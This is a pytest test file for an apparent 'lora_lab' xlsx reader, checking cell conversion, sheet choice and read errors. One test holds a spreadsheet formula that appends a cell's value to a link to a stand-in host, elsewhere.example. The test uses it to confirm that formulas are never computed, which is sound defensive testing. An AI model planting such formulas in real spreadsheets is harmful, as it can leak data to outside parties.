"""Sheets of .xlsx files, written by openpyxl, which is also what reads them."""

from __future__ import annotations

import datetime as dt
import importlib.util
from pathlib import Path
from typing import Any

import pytest

from lora_lab.errors import TaskError
from lora_lab.tasks.load import load_task
from lora_lab.tasks.table import Table
from lora_lab.tasks.tables import read_file

openpyxl = pytest.importorskip("openpyxl")


def write(path: Path, **sheets: list[list[Any]]) -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def values(table: Table) -> dict[str, list[Any]]:
    return {name: list(column) for name, column in table.columns.items()}


def test_a_cell_is_what_it_shows(tmp_path: Path) -> None:
    path = write(
        tmp_path / "d.xlsx",
        data=[
            ["p", "c", None, "day"],
            ["é", 7, None, dt.date(2024, 1, 2)],
            [None, None, None, None],
            [" 007 ", 1.5, "x", dt.datetime(2024, 1, 2, 10, 30)],
            ["a\nb", True, None, "#N/A"],
        ],
    )
    assert values(read_file(path, ())) == {
        "p": ["é", " 007 ", "a\nb"],
        "c": ["7", "1.5", "TRUE"],
        "Unnamed: 2": [None, "x", None],
        "day": ["2024-01-02", "2024-01-02 10:30:00", None],
    }


def test_a_task_of_a_sheet(tmp_path: Path) -> None:
    path = write(tmp_path / "d.xlsx", data=[["p", "c"], *[[f"q{i}", i] for i in range(4)]])
    task = load_task(path, prompt="p", completion="c")
    found = {(e.prompt, e.completion) for e in (*task.train, *task.validation)}
    assert found == {(f"q{i}", str(i)) for i in range(4)}
    task = load_task(path, prompt=0, completion=1)
    assert len(task.train) + len(task.validation) == 5


def test_the_first_sheet_with_rows_is_read_and_said(tmp_path: Path) -> None:
    path = write(tmp_path / "d.xlsx", empty=[], one=[["p"], ["a"]], two=[["p"], ["b"]])
    with pytest.warns(UserWarning, match="sheet 'one' is read, and not 'two'"):
        assert values(read_file(path, ())) == {"p": ["a"]}


def test_what_cannot_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write(tmp_path / "d.xlsx", empty=[])
    with pytest.raises(TaskError, match="is empty"):
        read_file(path, ())
    with pytest.raises(TaskError, match="has no rows"):
        read_file(write(path, one=[["p", "c"]]), ())
    with pytest.raises(TaskError, match="has its own encoding"):
        read_file(path, (), encoding="utf-8")
    with pytest.raises(TaskError, match="sep is for"):
        read_file(path, (), sep=",")
    twice = write(path, one=[["p", "c", "p"], ["a", "b", "c"]])
    with pytest.raises(TaskError, match="several columns that are called 'p'"):
        read_file(twice, ()).need(("p",))
    path.write_bytes(b"PK")
    with pytest.raises(TaskError, match="cannot be read as xlsx"):
        read_file(path, ())
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    with pytest.raises(TaskError, match=r"read by openpyxl; pip install openpyxl"):
        read_file(path, ())


def test_no_formula_is_computed(tmp_path: Path) -> None:
    """openpyxl writes formulas without their values; Excel keeps both, and the value is read."""
    link = '=HYPERLINK("http://elsewhere.example/?" & B2)'
    path = write(tmp_path / "d.xlsx", data=[["p", "c"], [link, "a"], ["=1+1", "b"], ["x", "c"]])
    assert values(read_file(path, ())) == {"p": [None, None, "x"], "c": ["a", "b", "c"]}
